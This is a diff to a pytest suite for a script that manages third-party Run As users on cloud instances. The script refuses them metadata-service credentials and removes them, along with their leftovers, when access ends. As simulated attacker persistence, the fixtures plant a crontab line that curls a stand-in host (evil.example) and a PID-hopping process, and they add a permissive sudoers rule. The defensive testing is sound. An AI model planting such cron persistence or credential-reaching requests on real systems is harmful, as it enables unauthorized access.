@@ -17,6 +17,7 @@ from pathlib import Path
 import pytest
 
 from components.run_as_user import COMMON_SCRIPT, MACOS_SCRIPT, RUN_AS_GROUP, SCRIPT, run_as_user_script
+from tests.agent_session import BUSY_MACHINE, OPEN_SESSION, pid_hopper, session, still_running
 
 USER = "third-party-a"
 
@@ -41,22 +42,28 @@ NAMESPACES = ["unshare", "--mount", "--net", "--pid", "--fork", "--mount-proc", 
 
 
 class PrivateSystem:
-    """A private /etc and /home in which shell commands run as root."""
+    """A private /etc, /home, /var/spool and /var/tmp in which shell commands run as root, and sessions open as
+    SSM Agent opens them (``open_session``, tests/agent_session.py)."""
 
     def __init__(self, root: Path) -> None:
         self.etc = root / "etc"
         self.home = root / "home"
         self.spool = root / "spool"
+        self.tmp = root / "tmp"
         subprocess.run(["cp", "-a", "/etc", str(self.etc)], check=True)
         self.home.mkdir()
         (self.spool / "cron" / "crontabs").mkdir(parents=True)
+        self.tmp.mkdir()
+        self.tmp.chmod(0o1777)
         self.script = root / "run-as-user.sh"
+        self.agent = root / "agent-session.sh"
+        self.agent.write_text(OPEN_SESSION)
 
     def run(self, commands: str) -> subprocess.CompletedProcess[str]:
-        # Its own process table too, so the script's pkill sees the namespace's processes only.
+        # Its own process table too, so what the script signals is the namespace's processes only.
         inner = (
             f"mount --bind {self.etc} /etc && mount --bind {self.home} /home && mount --bind {self.spool} /var/spool"
-            f" && {commands}"
+            f" && mount --bind {self.tmp} /var/tmp && . {self.agent} && {commands}"
         )
         return subprocess.run(
             [*NAMESPACES, "bash", "-c", inner],
@@ -158,11 +165,9 @@ Server((sys.argv[1], 80), Answer).serve_forever()
 
 
 FETCH = """
-# Prints the last line IMDS answers at $1, or REFUSED; as root, or as the user $2.
+# Prints the last line IMDS answers at $1, or REFUSED.
 request="exec 3<>/dev/tcp/$1/80 && printf 'GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"
-runner=()
-[ -z "${2:-}" ] || runner=(setpriv --reuid="$2" --regid="$2" --init-groups)
-if answer=$("${runner[@]}" timeout 5 bash -c "$request" 2>/dev/null); then
+if answer=$(timeout 5 bash -c "$request" 2>/dev/null); then
   echo "${answer##*$'\\n'}"
 else
   echo REFUSED
@@ -174,14 +179,15 @@ class InstanceWithImds(PrivateSystem):
     """The private system, with a stand-in IMDS on its own loopback at both of IMDS's addresses."""
 
     def fetch(self, address: str, as_user: str = "") -> str:
-        """A shell command printing what IMDS answers at ``address`` (or REFUSED), as root or as ``as_user``."""
-        return f"bash {self.script.with_name('fetch.sh')} {address} {as_user}"
+        """A shell command printing what IMDS answers at ``address`` (or REFUSED), as root or in a session as
+        ``as_user``."""
+        fetch = f"bash /var/tmp/fetch.sh {address}"
+        return f"{{ {session(as_user, fetch)} || echo NO-SESSION; }}" if as_user else fetch
 
     def run_with_imds(self, commands: str) -> subprocess.CompletedProcess[str]:
         server = self.script.with_name("imds.py")
         server.write_text(STAND_IN_IMDS)
-        fetcher = self.script.with_name("fetch.sh")
-        fetcher.write_text(FETCH)
+        (self.tmp / "fetch.sh").write_text(FETCH)  # in /var/tmp, where a session's user may read it
         setup = (
             f"ip link set lo up && ip addr add {IMDS_V4}/32 dev lo && ip -6 addr add {IMDS_V6}/128 dev lo nodad"
             # The stand-ins end with the namespace's shell; they must not hold the test's pipes open.
@@ -200,7 +206,7 @@ def instance(tmp_path) -> InstanceWithImds:
 
 def answers(result: subprocess.CompletedProcess[str]) -> list[str]:
     assert result.returncode == 0, result.stderr
-    return [line for line in result.stdout.splitlines() if line in ("role-credentials", "REFUSED")]
+    return [line for line in result.stdout.splitlines() if line in ("role-credentials", "REFUSED", "NO-SESSION")]
 
 
 @needs_root
@@ -211,10 +217,10 @@ def test_a_run_as_user_is_refused_imds_while_root_and_ssm_user_are_answered(inst
         f" && {instance.fetch(IMDS_V4, USER)} && {instance.fetch(IMDS_V6, USER)}"
         f" && {instance.fetch(IMDS_V4)} && {instance.fetch(IMDS_V6)} && {instance.fetch(IMDS_V4, 'ssm-user')}"
     )
-    # Before the script the user does not exist; after it, the user is refused on IPv4 and IPv6, while the
-    # agent (root) and ssm-user are still answered.
+    # Before the script the user does not exist, so no session opens; after it, the user is refused on IPv4
+    # and IPv6, while the agent (root) and ssm-user are still answered.
     assert answers(result) == [
-        "REFUSED",
+        "NO-SESSION",
         "REFUSED",
         "REFUSED",
         "role-credentials",
@@ -225,11 +231,9 @@ def test_a_run_as_user_is_refused_imds_while_root_and_ssm_user_are_answered(inst
 
 @needs_root
 def test_the_rule_covers_every_run_as_user_and_is_loaded_again_at_boot(instance):
-    instance.script.write_text(run_as_user_script([USER]))
-    other = instance.script.with_name("other.sh")
-    other.write_text(run_as_user_script(["third-party-b"]))
+    instance.script.write_text(run_as_user_script([USER, "third-party-b"]))
     result = instance.run_with_imds(
-        f"bash {instance.script} >/dev/null && bash {other} >/dev/null && bash {instance.script} >/dev/null"
+        f"bash {instance.script} >/dev/null && bash {instance.script} >/dev/null"
         # A reboot: the running rules are gone, then the nftables service loads its configuration.
         " && nft flush ruleset && conf=/etc/sysconfig/nftables.conf && { [ -e $conf ] || conf=/etc/nftables.conf; }"
         f" && nft -f $conf && {instance.fetch(IMDS_V4, USER)} && {instance.fetch(IMDS_V4, 'third-party-b')}"
@@ -237,15 +241,6 @@ def test_the_rule_covers_every_run_as_user_and_is_loaded_again_at_boot(instance)
     )
     assert answers(result) == ["REFUSED", "REFUSED", "role-credentials"]
     assert sorted(instance.group_members(RUN_AS_GROUP)) == [USER, "third-party-b"]
-
-
-@needs_root
-def test_without_nft_the_user_is_never_made(instance):
-    instance.script.write_text(run_as_user_script([USER]))
-    result = instance.run(f"PATH=/nonexistent /bin/bash {instance.script}")
-    assert result.returncode != 0
-    assert "nft is missing" in result.stderr
-    assert f"{USER}:" not in (instance.etc / "passwd").read_text()
 
 
 def test_the_association_runs_each_platforms_script_whole():
@@ -258,12 +253,34 @@ def test_the_association_runs_each_platforms_script_whole():
 # -- access ends on the instance: grant, revoke, move, expire ------------------------------------------
 
 PAST, FUTURE = datetime(2020, 1, 1, tzinfo=UTC), datetime(2099, 1, 1, tzinfo=UTC)
-LEFT_BEHIND = (
-    f"{{ (setpriv --reuid={USER} --regid={USER} --init-groups nohup sleep 600 >/dev/null 2>&1 &);"
-    f" echo '* * * * * curl evil.example' > /var/spool/cron/crontabs/{USER}; sleep 0.3; }}"
+REMOVED = ".third-party-ec2-access-removed"
+"""Where, under /home, the script keeps removed users' homes and the record of their uids."""
+
+
+def heartbeat(user: str) -> str:
+    return f"/var/tmp/beat-{user}"  # noqa: S108 (the namespace's own /var/tmp)
+
+
+def leave_behind(user: str) -> str:
+    """What a party leaves on the instance from a session: a process that hops PIDs, and a crontab."""
+    return (
+        f"{session(user, pid_hopper(heartbeat(user)))}"
+        f" && echo '* * * * * curl evil.example' > /var/spool/cron/crontabs/{user} && sleep 0.3"
+    )
+
+
+def report(user: str) -> str:
+    """Prints whether a session as ``user`` opens, and whether what it left behind still runs."""
+    opened = f"$({session(user, 'echo opened')} 2>/dev/null || echo refused)"
+    return f'echo "{user}: session $(echo {opened}), processes $({still_running(heartbeat(user))})"'
+
+
+BUSY = (
+    f"useradd ops && for i in $(seq {BUSY_MACHINE // 3}); do setpriv --reuid=ops --regid=ops --clear-groups"
+    f" sleep 600 & done && for i in $(seq {BUSY_MACHINE - BUSY_MACHINE // 3}); do sleep 600 & done"
 )
-"""What a party leaves on the instance: a process that outlives its session, and a crontab."""
-COUNT_LEFT = f"echo processes=$(pgrep -c -u {USER} || true)"
+"""The other processes of an instance: root's, and those of a user the stack did not make."""
+OTHERS_LEFT = "echo others=$(($(pgrep -c -u ops) + $(pgrep -c -u root -x sleep)))"
 
 
 def scripts(system: PrivateSystem, **grants: datetime | None) -> dict[str, Path]:
@@ -275,70 +292,113 @@ def scripts(system: PrivateSystem, **grants: datetime | None) -> dict[str, Path]
     return paths
 
 
-def locked_out(system: PrivateSystem, user: str = USER) -> bool:
-    _, password, *_, account_expiry, _ = system.shadow_entry(user)
-    return password.startswith("!") and account_expiry == "1" and system.passwd_entry(user)[6] == "/sbin/nologin"
+def granted_first(system: PrivateSystem, *users: str, expires: datetime | None = FUTURE) -> dict[str, int]:
+    """Grants each of ``users`` on its own (as its party's association would), and returns their uids."""
+    for user in users:
+        result = system.run(f"bash {scripts(system, **{user: expires})[user]}")
+        assert result.returncode == 0, result.stderr
+    return {user: int(system.passwd_entry(user)[2]) for user in users}
+
+
+def assert_removed(system: PrivateSystem, user: str, uid: int) -> None:
+    """No such user any more; its home kept root-only under a new name; its uid recorded, root-only."""
+    assert f"{user}:" not in (system.etc / "passwd").read_text()
+    assert user not in system.group_members(RUN_AS_GROUP)
+    assert not (system.home / user).exists()
+    removed = system.home / REMOVED
+    (kept,) = [path for path in removed.iterdir() if path.name.startswith(f"{user}.uid{uid}.")]
+    for path in (removed, kept):
+        assert (path.stat().st_uid, path.stat().st_gid, path.stat().st_mode & 0o777) == (0, 0, 0o700), path
+    record = removed / "removed-users"
+    assert (record.stat().st_uid, record.stat().st_mode & 0o777) == (0, 0o600)
+    assert f" removed user={user} uid={uid} " in record.read_text()
+
+
+@needs_root
+def test_a_locked_account_still_gets_a_session_as_the_agent_opens_one(system):
+    # What the tests' sessions stand for: `su` refuses a locked, expired account without a shell; SSM Agent
+    # does not (no PAM, no login shell), so only a user that no longer exists is a closed door.
+    result = system.run(
+        f"useradd --create-home {USER} && usermod --lock --expiredate 1 --shell /sbin/nologin {USER}"
+        f" && {{ su --shell /bin/sh {USER} --command 'echo su-opened' 2>/dev/null || echo su-refused; }}"
+        f" && {session(USER, 'echo session-as-$(id -un)')}"
+        f" && userdel {USER} && {{ {session(USER, 'echo opened')} || echo no-session; }}"
+    )
+    assert result.stdout.split() == ["su-refused", f"session-as-{USER}", "no-session"], result.stderr
+    assert f"RunAs user {USER} does not exist" in result.stderr
 
 
 @needs_root
 def test_granted_user_is_usable_and_left_running(system):
-    script = scripts(system, **{USER: FUTURE})[USER]
-    result = system.run(f"bash {script} >/dev/null && {LEFT_BEHIND} && bash {script} >/dev/null && {COUNT_LEFT}")
+    granted_first(system, USER)
+    result = system.run(f"{leave_behind(USER)} && bash {scripts(system, **{USER: FUTURE})[USER]} && {report(USER)}")
     assert result.returncode == 0, result.stderr
-    assert "processes=1" in result.stdout  # a granted user's own work is not touched
-    assert not locked_out(system)
+    assert f"{USER}: session opened, processes running" in result.stdout  # a granted user's work is not touched
     assert system.passwd_entry()[6] == "/bin/bash"
     assert (system.spool / "cron" / "crontabs" / USER).exists()
 
 
 @needs_root
-def test_moving_the_grant_to_another_party_locks_the_old_user_out_and_ends_what_it_left(system):
-    paths = scripts(system, **{USER: None, "third-party-b": None})
-    result = system.run(
-        f"bash {paths[USER]} >/dev/null && {LEFT_BEHIND} && bash {paths['third-party-b']} && {COUNT_LEFT}"
-    )
+def test_moving_the_grant_to_another_party_removes_the_old_user_and_ends_all_it_left(system):
+    uid = granted_first(system, USER)[USER]
+    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
+    # Among the instance's other processes, the old party's user left one that hops PIDs.
+    result = system.run(f"{BUSY} && {leave_behind(USER)} && bash {other} && {report(USER)} && {OTHERS_LEFT}")
     assert result.returncode == 0, result.stderr
-    assert f"{USER} is locked out" in result.stdout
-    assert "processes=0" in result.stdout
-    assert locked_out(system)
+    assert f"{USER} is removed (uid {uid})" in result.stdout
+    assert f"{USER}: session refused, processes ended" in result.stdout
+    assert f"others={BUSY_MACHINE}" in result.stdout  # no one else's
+    assert_removed(system, USER, uid)
     assert not (system.spool / "cron" / "crontabs" / USER).exists()
-    assert (system.home / USER).is_dir()  # kept, for your records
-    assert not locked_out(system, "third-party-b")
+    assert "third-party-b" in system.group_members(RUN_AS_GROUP)
 
 
 @needs_root
-def test_revoking_a_party_locks_its_user_out_on_the_next_run_of_any_grant(system):
+def test_revoking_a_party_removes_its_user_on_the_next_run_of_any_grant(system):
     # The revoked party's association is gone; the instance's next grant (here, re-tagged to B) converges it.
-    paths = scripts(system, **{USER: FUTURE, "third-party-b": FUTURE})
+    uid = granted_first(system, USER)[USER]
     result = system.run(
-        f"bash {paths[USER]} >/dev/null && {LEFT_BEHIND} && bash {paths['third-party-b']} >/dev/null && {COUNT_LEFT}"
+        f"{leave_behind(USER)} && bash {scripts(system, **{'third-party-b': FUTURE})['third-party-b']}"
+        f" && {report(USER)}"
     )
     assert result.returncode == 0, result.stderr
-    assert "processes=0" in result.stdout
-    assert locked_out(system)
+    assert f"{USER}: session refused, processes ended" in result.stdout
+    assert_removed(system, USER, uid)
 
 
 @needs_root
-def test_after_its_expiry_the_partys_own_run_locks_its_user_out(system):
-    before, after = system.script.with_name("before.sh"), system.script.with_name("after.sh")
-    before.write_text(run_as_user_script([USER], FUTURE))
-    after.write_text(run_as_user_script([USER], PAST))
-    result = system.run(f"bash {before} >/dev/null && {LEFT_BEHIND} && bash {after} && {COUNT_LEFT}")
+def test_after_its_expiry_the_partys_own_run_removes_its_user(system):
+    uid = granted_first(system, USER)[USER]
+    result = system.run(f"{leave_behind(USER)} && bash {scripts(system, **{USER: PAST})[USER]} && {report(USER)}")
     assert result.returncode == 0, result.stderr
     assert "access expired" in result.stdout
-    assert "processes=0" in result.stdout
-    assert locked_out(system)
+    assert f"{USER}: session refused, processes ended" in result.stdout
+    assert_removed(system, USER, uid)
 
 
 @needs_root
-def test_an_extended_grant_lets_the_user_in_again(system):
-    expired, extended = system.script.with_name("expired.sh"), system.script.with_name("extended.sh")
-    expired.write_text(run_as_user_script([USER], PAST))
-    extended.write_text(run_as_user_script([USER], FUTURE))
-    result = system.run(f"bash {expired} >/dev/null && bash {extended} >/dev/null")
+def test_a_new_grant_makes_the_user_afresh(system):
+    old_uid = granted_first(system, USER)[USER]
+    (system.home / USER / "notes").write_text("the first grant's")
+    expired = system.run(f"bash {scripts(system, **{USER: PAST})[USER]}")
+    assert expired.returncode == 0, expired.stderr
+    new_uid = granted_first(system, USER)[USER]
+    assert new_uid > old_uid  # never a removed user's uid: an old uid names one person only
+    assert not (system.home / USER / "notes").exists()  # a fresh home; the old one is kept apart, root-only
+    (kept,) = (system.home / REMOVED).glob(f"{USER}.uid{old_uid}.*")
+    assert (kept / "notes").read_text() == "the first grant's"
+    result = system.run(session(USER, "id -u"))
+    assert result.stdout.strip() == str(new_uid), result.stderr
+
+
+@needs_root
+def test_a_user_it_made_is_removed_even_out_of_the_group(system):
+    # Found by the name it gave the user, should the group have lost it.
+    uid = granted_first(system, USER)[USER]
+    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
+    result = system.run(f"gpasswd --delete {USER} {RUN_AS_GROUP} && bash {other}")
     assert result.returncode == 0, result.stderr
-    assert not locked_out(system)
-    assert system.passwd_entry()[6] == "/bin/bash"
+    assert_removed(system, USER, uid)
 
 
 @needs_root
@@ -353,13 +413,102 @@ def test_users_the_stack_did_not_make_are_never_touched(system):
     assert system.shadow_entry("ops")[7] == ""
 
 
+# -- failing closed: whatever goes wrong, every lockout happens --------------------------------------------
+
+EVERYONE_MAY_SUDO = "echo 'ALL ALL=(root) NOPASSWD: /usr/bin/true' > /etc/sudoers.d/everyone"
+"""An unrelated sudo rule naming ALL: it grants every user something, the Run As users included."""
+
+
+@needs_root
+@needs_sudo
+def test_a_sudo_rule_for_everyone_does_not_stop_the_lockouts(system):
+    uid = granted_first(system, USER)[USER]
+    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
+    result = system.run(
+        f"{EVERYONE_MAY_SUDO} && {leave_behind(USER)} && {{ bash {other}; echo status=$?; }}"
+        f" && {report(USER)} && {report('third-party-b')}"
+    )
+    assert "status=1" in result.stdout
+    assert "third-party-b can still use sudo through another rule" in result.stderr
+    assert f"{USER}: session refused, processes ended" in result.stdout
+    assert_removed(system, USER, uid)
+    assert "third-party-b: session refused" in result.stdout  # nor is a user that can sudo left usable
+
+
+@needs_root
+@needs_sudo
+def test_an_expired_grant_is_never_let_in_again(system):
+    uid = granted_first(system, USER)[USER]
+    result = system.run(
+        f"{EVERYONE_MAY_SUDO} && {leave_behind(USER)} && bash {scripts(system, **{USER: PAST})[USER]} && {report(USER)}"
+    )
+    assert result.returncode == 0, result.stderr
+    assert f"{USER}: session refused, processes ended" in result.stdout
+    assert_removed(system, USER, uid)
+
+
+@needs_root
+def test_an_expiry_it_cannot_read_counts_as_passed(system):
+    uid = granted_first(system, USER)[USER]
+    script = system.script.with_name("garbled.sh")
+    script.write_text(
+        run_as_user_script([USER], FUTURE).replace(f"expires='{FUTURE:%Y-%m-%dT%H:%M:%SZ}'", "expires='soon'")
+    )
+    result = system.run(f"bash {script}")
+    assert result.returncode == 1
+    assert "cannot read the expiry soon: treated as passed" in result.stderr
+    assert_removed(system, USER, uid)
+
+
+@needs_root
+def test_with_nft_failing_the_lockouts_happen_and_no_user_is_made(system):
+    uid = granted_first(system, USER)[USER]
+    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
+    result = system.run(
+        # nft broken: what stands where it was cannot be run.
+        f"mount --bind /dev/null $(command -v nft) && {leave_behind(USER)} && {{ bash {other}; echo status=$?; }}"
+        f" && {report(USER)}"
+    )
+    assert "status=1" in result.stdout
+    assert "cannot refuse third-party-b the instance metadata service, so none is made" in result.stderr
+    assert f"{USER}: session refused, processes ended" in result.stdout
+    assert_removed(system, USER, uid)
+    assert "third-party-b:" not in (system.etc / "passwd").read_text()
+
+
+@needs_root
+def test_without_nft_the_user_is_never_made(system):
+    result = system.run(
+        # Every command of the machine but nft.
+        "mkdir /var/tmp/bin && for tool in /usr/sbin/* /usr/bin/*; do"
+        ' [ "${tool##*/}" = nft ] || ln -sf "$tool" /var/tmp/bin/; done'
+        f" && PATH=/var/tmp/bin bash {scripts(system, **{USER: FUTURE})[USER]}"
+    )
+    assert result.returncode != 0
+    assert "nft is missing" in result.stderr
+    assert f"{USER}:" not in (system.etc / "passwd").read_text()
+
+
+# -- groups: a session has the user's own group and the Run As group, nothing else -----------------------------
+
+
+@needs_root
+def test_a_sessions_only_groups_are_its_own_and_the_run_as_group(system):
+    script = scripts(system, **{USER: FUTURE})[USER]
+    result = system.run(
+        "for group in wheel docker disk; do getent group $group >/dev/null || groupadd $group; done"
+        f" && useradd --create-home --groups wheel,adm,docker,disk {USER} && bash {script}"
+        f" && {session(USER, 'echo groups=$(id -G)')}"
+    )
+    assert result.returncode == 0, result.stderr
+    names = {line.split(":")[2]: line.split(":")[0] for line in (system.etc / "group").read_text().splitlines()}
+    (listed,) = [line.removeprefix("groups=") for line in result.stdout.splitlines() if line.startswith("groups=")]
+    assert sorted(names[gid] for gid in listed.split()) == sorted([USER, RUN_AS_GROUP])
+
+
 # -- one OS user per person: each of a party's people, and only those still listed ----------------------
 
 ALICE, BOB = "tpb-alice", "tpb-bob"
-
-
-def bobs_leftovers() -> str:
-    return LEFT_BEHIND.replace(USER, BOB)
 
 
 @needs_root
@@ -373,37 +522,40 @@ def test_each_person_gets_a_plain_user_of_their_own_refused_imds(instance):
     uids = {instance.passwd_entry(user)[2] for user in (ALICE, BOB)}
     assert len(uids) == 2  # their files and processes tell them apart
     for user in (ALICE, BOB):
-        assert not locked_out(instance, user)
+        assert instance.passwd_entry(user)[6] == "/bin/bash"
         assert (instance.home / user).is_dir()
     assert sorted(instance.group_members(RUN_AS_GROUP)) == [ALICE, BOB]
 
 
 @needs_root
-def test_a_person_no_longer_listed_is_locked_out_and_the_others_keep_working(system):
+def test_a_person_no_longer_listed_is_removed_and_the_others_keep_working(system):
     both, alice_only = system.script.with_name("both.sh"), system.script.with_name("alice.sh")
     both.write_text(run_as_user_script([ALICE, BOB], FUTURE))
     alice_only.write_text(run_as_user_script([ALICE], FUTURE))
-    alices_work = LEFT_BEHIND.replace(USER, ALICE)
+    first = system.run(f"bash {both}")
+    assert first.returncode == 0, first.stderr
+    bobs_uid = int(system.passwd_entry(BOB)[2])
     result = system.run(
-        f"bash {both} >/dev/null && {alices_work} && {bobs_leftovers()} && bash {alice_only}"
-        f" && echo alice=$(pgrep -c -u {ALICE} || true) bob=$(pgrep -c -u {BOB} || true)"
+        f"{leave_behind(ALICE)} && {leave_behind(BOB)} && bash {alice_only} && {report(ALICE)} && {report(BOB)}"
     )
     assert result.returncode == 0, result.stderr
-    assert f"{BOB} is locked out" in result.stdout
-    assert "alice=1 bob=0" in result.stdout
-    assert locked_out(system, BOB)
-    assert not locked_out(system, ALICE)
-    assert (system.home / BOB).is_dir()  # kept: his files still name him
+    assert f"{BOB} is removed (uid {bobs_uid})" in result.stdout
+    assert f"{ALICE}: session opened, processes running" in result.stdout
+    assert f"{BOB}: session refused, processes ended" in result.stdout
+    assert_removed(system, BOB, bobs_uid)  # his home kept, root-only: his files still name his uid
 
 
 @needs_root
 def test_a_people_list_cannot_smuggle_a_system_account(system):
+    granted_first(system, BOB)
     script = system.script.with_name("people.sh")
     script.write_text(run_as_user_script([ALICE, "svc-daemon"], FUTURE))
     result = system.run(f"useradd --system svc-daemon && bash {script}")
     assert result.returncode != 0
     assert "refusing to manage svc-daemon: it is a system account" in result.stderr
-    assert f"{ALICE}:" not in (system.etc / "passwd").read_text()  # checked before anyone is made
+    assert "svc-daemon" not in system.group_members(RUN_AS_GROUP)
+    assert int(system.passwd_entry("svc-daemon")[2]) < 1000  # untouched
+    assert f"{BOB}:" not in (system.etc / "passwd").read_text()  # and the lockouts happened all the same
 
 
 def test_names_that_are_not_linux_users_never_reach_the_script():
